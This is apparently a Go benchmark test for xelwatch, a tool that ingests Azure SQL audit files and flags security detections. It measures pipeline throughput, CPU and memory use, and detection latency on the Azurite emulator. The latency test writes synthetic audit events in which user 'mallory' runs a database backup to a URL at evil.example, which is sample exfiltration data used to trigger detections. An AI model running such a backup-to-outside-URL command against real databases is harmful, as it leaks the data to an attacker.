package bench

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/appendblob"
	"github.com/sethvargo/go-envconfig"
	"github.com/xelwatch/xelwatch/handler/internal/app"
	"github.com/xelwatch/xelwatch/handler/internal/config"
	"github.com/xelwatch/xelwatch/handler/internal/ingest"
	"github.com/xelwatch/xelwatch/handler/internal/store"
	"github.com/xelwatch/xelwatch/handler/internal/testsupport/azuritetest"
	"github.com/xelwatch/xelwatch/xel"
	"github.com/xelwatch/xelwatch/xel/audit"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

func vmHWM() string {
	f, err := os.Open("/proc/self/status")
	if err != nil {
		return "n/a"
	}
	defer f.Close()
	s := bufio.NewScanner(f)
	for s.Scan() {
		if v, ok := strings.CutPrefix(s.Text(), "VmHWM:"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "n/a"
}

// cpu is the CPU time (user + system) used so far by this process and
// by Azurite (AZURITE_PID, exported by .ci/azurite.sh; zero when
// unknown). Azurite is one Node process: when its CPU time over a phase
// is close to the phase's wall time, Azurite is the bottleneck and only
// fewer or cheaper requests make the phase faster.
type cpu struct{ self, azurite time.Duration }

func cpuNow() cpu {
	var c cpu
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) == nil {
		c.self = time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
	}
	if pid := os.Getenv("AZURITE_PID"); pid != "" {
		if b, err := os.ReadFile("/proc/" + pid + "/stat"); err == nil {
			// Fields after the command's closing parenthesis: utime and
			// stime are the 12th and 13th (clock ticks, 100 per second).
			if _, rest, ok := strings.Cut(string(b), ") "); ok {
				if f := strings.Fields(rest); len(f) > 12 {
					u, _ := strconv.ParseInt(f[11], 10, 64)
					s, _ := strconv.ParseInt(f[12], 10, 64)
					c.azurite = time.Duration(u+s) * 10 * time.Millisecond
				}
			}
		}
	}
	return c
}

func (c cpu) since(start cpu, wall time.Duration) string {
	return fmt.Sprintf("CPU: xelwatch %s (%.0f %% of wall), Azurite %s (%.0f %%)",
		(c.self - start.self).Round(10*time.Millisecond), 100*float64(c.self-start.self)/float64(wall),
		(c.azurite - start.azurite).Round(10*time.Millisecond), 100*float64(c.azurite-start.azurite)/float64(wall))
}

// appender streams writes into an append blob in 4 MiB blocks.
type appender struct {
	ctx context.Context
	ab  *appendblob.Client
	buf []byte
	n   int64
}

func (a *appender) Write(p []byte) (int, error) {
	a.buf = append(a.buf, p...)
	for len(a.buf) >= 4<<20 {
		if err := a.flush(4 << 20); err != nil {
			return 0, err
		}
	}
	return len(p), nil
}

func (a *appender) flush(n int) error {
	if n == 0 {
		return nil
	}
	if _, err := a.ab.AppendBlock(a.ctx, rsc{bytes.NewReader(a.buf[:n])}, nil); err != nil {
		return err
	}
	a.n += int64(n)
	a.buf = append(a.buf[:0], a.buf[n:]...)
	return nil
}

type rsc struct{ *bytes.Reader }

func (rsc) Close() error { return nil }

func TestBench(t *testing.T) {
	mb, _ := strconv.Atoi(os.Getenv("XELWATCH_BENCH_MB"))
	if mb <= 0 {
		t.Skip("set XELWATCH_BENCH_MB (e.g. 100) to run the benchmark")
	}
	conn := azuritetest.ConnString(t)
	ctx := context.Background()
	env := map[string]string{
		"AzureWebJobsStorage":       conn,
		"XELWATCH_AUDIT_CONTAINER":  azuritetest.Name("bench"),
		"XELWATCH_EVENTS_TABLE":     azuritetest.Name("Ev"),
		"XELWATCH_CURSORS_TABLE":    azuritetest.Name("Cur"),
		"XELWATCH_DETECTIONS_TABLE": azuritetest.Name("Det"),
		"XELWATCH_STATE_TABLE":      azuritetest.Name("St"),
		"XELWATCH_DETECTIONS_QUEUE": azuritetest.Name("det"),
		"XELWATCH_LOG_LEVEL":        "warn",
	}
	for _, kv := range os.Environ() {
		// Other settings apply to the pipeline (XELWATCH_DISABLED_RULES,
		// say, to see what some rules cost).
		if k, v, _ := strings.Cut(kv, "="); strings.HasPrefix(k, "XELWATCH_") && !strings.HasPrefix(k, "XELWATCH_BENCH_") && env[k] == "" {
			env[k] = v
		}
	}
	cfg, err := config.Load(ctx, envconfig.MapLookuper(env))
	if err != nil {
		t.Fatal(err)
	}
	log := slog.New(slog.NewJSONHandler(io.Discard, nil))
	a, err := app.Build(ctx, cfg, log, app.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Ensure(ctx); err != nil {
		t.Fatal(err)
	}
	day := time.Now().UTC().Format("2006-01-02")
	svc, err := cfg.AppStorage().TableServiceClient()
	if err != nil {
		t.Fatal(err)
	}

	// 0. Warm-up: a fresh Azurite (a Node process) is several times
	// slower until its JIT has seen each kind of request, and whichever
	// side ran first would pay for it. One small blob goes through both
	// paths first, under another server name (its own partitions).
	warm := upload(t, ctx, a, "warmsrv/db1/aud/"+day+"/00_00_00_000_0.xel", 1, 7)
	if _, err := a.Pipeline.Ingest(ctx, warm.name, ingest.RunOptions{Owner: "warm-up"}); err != nil {
		t.Fatal(err)
	}
	rawUpsert(t, ctx, a, svc.NewClient(azuritetest.Name("Warm")), warm, false)

	b := upload(t, ctx, a, "benchsrv/db1/aud/"+day+"/00_00_00_000_0.xel", mb, 42)
	runtime.GC()
	t.Logf("blob: %d bytes; VmHWM after upload %s; load average %s", b.size, vmHWM(), loadAvg())

	// Azurite keeps getting faster over the first tens of MB (V8's JIT,
	// its heap growing): whichever phase runs first pays for it, by up
	// to a fifth. The raw upsert runs before and after the pipeline, and
	// the pipeline is compared with the mean of the two.
	raw := func(name string) float64 {
		s0, c0 := time.Now(), cpuNow()
		n, d := rawUpsert(t, ctx, a, svc.NewClient(azuritetest.Name(name)), b, false)
		rate := float64(n) / d.Seconds()
		t.Logf("raw aztables (%s): %d rows, %s, %.0f rows/s; with decoding %s", name, n, d.Round(time.Millisecond), rate, cpuNow().since(c0, time.Since(s0)))
		return rate
	}
	rawBefore := raw("RawBefore")

	// 1. The pipeline as AuditBlob runs it: decode, upsert, evaluate,
	// findings to the outbox, cursor.
	// A run stops at the findings budget; the sweep would continue the
	// blob at once, as the loop does.
	start, startCPU := time.Now(), cpuNow()
	var res ingest.Result
	var stored int64 // distinct rows: runs that stop at a budget re-read a few
	runs := 0
	retries := 0
	for {
		r, err := a.Pipeline.Ingest(ctx, b.name, ingest.RunOptions{Owner: "bench"})
		if err != nil && store.IsTransient(err) && retries < maxRetries {
			// An overloaded Azurite resets connections: fail and retry,
			// as the host retries the invocation.
			retries++
			t.Logf("pipeline: transient error, retrying (%d): %v", retries, err)
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		runs++
		res.Rows += r.Rows
		res.Bytes += r.Bytes
		res.Findings = append(res.Findings, r.Findings...)
		stored = r.Cursor.Rows
		if r.Outcome != ingest.OutcomeMore {
			break
		}
	}
	pipe := time.Since(start)
	pipeCPU := cpuNow().since(startCPU, pipe)
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	hwm := vmHWM()
	pipeRate := float64(stored) / pipe.Seconds()
	t.Logf("pipeline: %d rows (%d upserts), %d findings, %d runs (%d retried), %s, %.0f rows/s, %.1f MB/s; VmHWM %s, Go heap sys %d MiB",
		stored, res.Rows, len(res.Findings), runs, retries, pipe.Round(time.Millisecond), pipeRate, float64(res.Bytes)/1e6/pipe.Seconds(), hwm, ms.HeapSys>>20)

	t.Logf("pipeline: %s", pipeCPU)

	parts := partitions(t, ctx, svc.NewClient(a.Cfg.EventsTable))
	t.Logf("pipeline: rows in %d partitions (%d shards per database-hour)", parts, store.EventShards)

	// 2. Raw aztables transactions of the same rows, in the same layout,
	// into fresh tables (decoding and entity building not timed).
	rawRate := (rawBefore + raw("RawAfter")) / 2
	t.Logf("pipeline / raw (mean of before and after) = %.0f %%", 100*pipeRate/rawRate)
	if os.Getenv("XELWATCH_BENCH_LEGACY") != "" {
		// The same rows in the layout before the shards (one partition
		// per database-hour), for comparison: slow on Azurite, which
		// searches the partition on every write.
		n, d := rawUpsert(t, ctx, a, svc.NewClient(azuritetest.Name("Legacy")), b, true)
		t.Logf("raw aztables, legacy layout (one partition per hour): %d rows, %s, %.0f rows/s", n, d.Round(time.Millisecond), float64(n)/d.Seconds())
	}

	// 3. Append → detection on the queue, with the sweep on the default schedule.
	p50 := "skipped"
	if os.Getenv("XELWATCH_BENCH_NO_LATENCY") == "" {
		lat := latency(t, ctx, a, day)
		p50 = lat[len(lat)/2].Round(time.Millisecond).String()
		t.Logf("append → detection on queue: p50 %s (n=%d, all %v)", p50, len(lat), lat)
	}

	// The targets of issue #12, reported (not asserted: this machine's
	// load decides the figures).
	t.Logf("load average at the end: %s", loadAvg())
	t.Logf("targets: pipeline ≥ 5,000 rows/s: %.0f; ≥ 80 %% of raw: %.0f %%; 100 MB ≤ 3 min: %s for %d MB (%s per 100 MB); VmHWM ≤ 64 MiB: %s; p50 ≤ 5 s: %s",
		pipeRate, 100*pipeRate/rawRate, pipe.Round(time.Second), mb,
		(time.Duration(float64(pipe) * 100 / float64(mb))).Round(time.Second), hwm, p50)
}

// loadAvg is /proc/loadavg's first three fields: the machine is shared,
// and Azurite and the pipeline compete for its cores.
func loadAvg() string {
	b, err := os.ReadFile("/proc/loadavg")
	if err != nil {
		return "n/a"
	}
	f := strings.Fields(string(b))
	if len(f) < 3 {
		return "n/a"
	}
	return strings.Join(f[:3], " ")
}

// partitions counts the distinct partition keys of table (a key-only
// scan).
func partitions(t *testing.T, ctx context.Context, table *aztables.Client) int {
	t.Helper()
	sel := "PartitionKey"
	pager := table.NewListEntitiesPager(&aztables.ListEntitiesOptions{Select: &sel})
	seen := map[string]bool{}
	for pager.More() {
		page, err := pager.NextPage(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, raw := range page.Entities {
			var e struct{ PartitionKey string }
			if err := json.Unmarshal(raw, &e); err != nil {
				t.Fatal(err)
			}
			seen[e.PartitionKey] = true
		}
	}
	return len(seen)
}

// maxRetries bounds the retries of a failed run or transaction: Azurite,
// one Node process, resets connections when a large partition keeps it
// busy for long.
const maxRetries = 5

type blob struct {
	name string
	size int64
}

// upload writes a synthesized audit file of mb MiB to an append blob.
func upload(t *testing.T, ctx context.Context, a *app.App, name string, mb int, seed int64) blob {
	t.Helper()
	ab := a.Blobs.Container().NewAppendBlobClient(name)
	if _, err := ab.Create(ctx, nil); err != nil {
		t.Fatal(err)
	}
	w := &appender{ctx: ctx, ab: ab}
	if err := xeltest.SyntheticAuditFile(w, int64(mb)<<20, seed); err != nil {
		t.Fatal(err)
	}
	if err := w.flush(len(w.buf)); err != nil {
		t.Fatal(err)
	}
	return blob{name: name, size: w.n}
}

// rawUpsert decodes b and writes its rows into table with plain aztables
// transactions, in chunks of the pipeline's batch size and with its
// parallelism; only the transactions are timed. With legacy, the rows
// go to the partitions they had before the shards (one per
// database-hour).
func rawUpsert(t *testing.T, ctx context.Context, a *app.App, raw *aztables.Client, b blob, legacy bool) (int, time.Duration) {
	t.Helper()
	if _, err := raw.CreateTable(ctx, nil); err != nil {
		t.Fatal(err)
	}
	var rawTime time.Duration
	rawRows := 0
	xr, err := xel.NewReaderAt(a.Blobs.ReaderAt(ctx, b.name, b.size), b.size, nil)
	if err != nil {
		t.Fatal(err)
	}
	ar := audit.NewReader(xr, b.name, nil)
	var chunk []*audit.Record
	flush := func() {
		ents, err := store.BuildEntities("benchsrv", "db1", b.name, time.Now(), chunk)
		if err != nil {
			t.Fatal(err)
		}
		if legacy {
			for i := range ents {
				ents[i] = legacyEntity(ents[i])
			}
		}
		batches := store.Batches(ents)
		t0 := time.Now()
		var wg sync.WaitGroup
		sem := make(chan struct{}, store.DefaultParallelism)
		var mu sync.Mutex
		var firstErr error
		for _, b := range batches {
			acts := make([]aztables.TransactionAction, len(b))
			for i, e := range b {
				acts[i] = aztables.TransactionAction{ActionType: aztables.TransactionTypeInsertReplace, Entity: e.JSON}
			}
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer wg.Done()
				defer func() { <-sem }()
				var err error
				for try := 0; try <= maxRetries; try++ {
					if _, err = raw.SubmitTransaction(ctx, acts, nil); err == nil || !store.IsTransient(err) {
						break
					}
					t.Logf("raw: transient error, retrying: %v", err)
				}
				if err != nil {
					mu.Lock()
					firstErr = err
					mu.Unlock()
				}
			}()
		}
		wg.Wait()
		rawTime += time.Since(t0)
		if firstErr != nil {
			t.Fatal(firstErr)
		}
		rawRows += len(chunk)
		chunk = chunk[:0]
	}
	for rec, err := range ar.All() {
		if err != nil {
			t.Fatal(err)
		}
		chunk = append(chunk, rec)
		if len(chunk) == ingest.DefaultBatchSize {
			flush()
		}
	}
	flush()
	return rawRows, rawTime
}

// latency appends a backup record to a fresh blob at a random point of the
// sweep's period (XELWATCH_SWEEP_SCHEDULE's default, "*/N * * * * *") and
// measures when its detection reaches the queue.
func latency(t *testing.T, ctx context.Context, a *app.App, day string) []time.Duration {
	const n = 7
	var out []time.Duration
	sweepCtx, stop := context.WithCancel(ctx)
	defer stop()
	go func() {
		tk := time.NewTicker(sweepPeriod(t, a.Cfg.SweepSchedule))
		defer tk.Stop()
		for {
			so := a.SweepOptions()
			so.FindingSink = a.Enqueue
			_, _ = a.Pipeline.Sweep(sweepCtx, so)
			select {
			case <-sweepCtx.Done():
				return
			case <-tk.C:
			}
		}
	}()
	if _, err := a.Queue.ClearMessages(ctx, nil); err != nil {
		t.Fatal(err)
	}
	// One audit file that grows, as Azure SQL writes it: Event Grid
	// announces the blob at creation (AuditBlob gives it a cursor), then
	// every append is picked up by the sweep.
	var buf bytes.Buffer
	xw, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096})
	if err != nil {
		t.Fatal(err)
	}
	name := fmt.Sprintf("latsrv/db1/aud/%s/01_00_00_000_0.xel", day)
	ab := a.Blobs.Container().NewAppendBlobClient(name)
	if _, err := ab.Create(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Pipeline.Ingest(ctx, name, ingest.RunOptions{}); err != nil {
		t.Fatal(err)
	}
	sent := 0
	for i := range n {
		time.Sleep(time.Duration(1300*(i+1)%10000) * time.Millisecond)
		_ = xw.WriteAudit(xeltest.AuditEvent{EventTime: time.Now().UTC(), ActionID: "BA", ClassType: "DB", Succeeded: true,
			ServerPrincipalName: "mallory", Statement: fmt.Sprintf("BACKUP DATABASE db1 TO URL = 'https://evil.example/%d.bak' WITH COPY_ONLY", i)})
		_ = xw.Flush()
		block := buf.Bytes()[sent:]
		sent = buf.Len()
		t0 := time.Now()
		if _, err := ab.AppendBlock(ctx, rsc{bytes.NewReader(block)}, nil); err != nil {
			t.Fatal(err)
		}
		for {
			p, err := a.Queue.GetProperties(ctx, nil)
			if err != nil {
				t.Fatal(err)
			}
			if *p.ApproximateMessagesCount > 0 {
				out = append(out, time.Since(t0))
				_, _ = a.Queue.ClearMessages(ctx, nil)
				break
			}
			if time.Since(t0) > time.Minute {
				t.Fatalf("no detection after a minute")
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	slices.Sort(out)
	return out
}

// sweepPeriod reads N from a "*/N * * * * *" schedule (every N seconds).
func sweepPeriod(t *testing.T, schedule string) time.Duration {
	t.Helper()
	f := strings.Fields(schedule)
	if len(f) != 6 || !strings.HasPrefix(f[0], "*/") {
		t.Fatalf("sweep schedule %q is not every-N-seconds", schedule)
	}
	n, err := strconv.Atoi(strings.TrimPrefix(f[0], "*/"))
	if err != nil || n <= 0 {
		t.Fatalf("sweep schedule %q: %v", schedule, err)
	}
	return time.Duration(n) * time.Second
}

// legacyEntity moves a row (or continuation entity) from its shard to the
// legacy partition "<server>|<database>|yyyyMMddHH": the shard component
// dropped from its key.
func legacyEntity(e store.Entity) store.Entity {
	parts := strings.Split(e.PartitionKey, "|")
	if len(parts) != 4 {
		return e
	}
	pk := parts[0] + "|" + parts[1] + "|" + parts[3]
	e.JSON = bytes.Replace(e.JSON, []byte(`"PartitionKey":"`+e.PartitionKey+`"`), []byte(`"PartitionKey":"`+pk+`"`), 1)
	e.PartitionKey = pk
	return e
}
